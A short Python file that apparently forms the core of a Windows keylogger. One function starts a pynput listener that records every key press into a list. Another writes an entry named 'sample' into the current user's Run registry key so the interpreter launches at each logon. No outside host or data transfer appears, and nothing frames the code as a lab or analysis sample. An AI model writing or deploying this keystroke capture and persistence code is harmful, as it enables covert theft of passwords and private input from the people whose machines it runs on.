import sys
import winreg

from pynput.keyboard import Listener


def listen(log):
    Listener(on_press=log.append).start()


def stay():
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_ALL_ACCESS)
    winreg.SetValueEx(key, "sample", 0, winreg.REG_SZ, sys.executable)
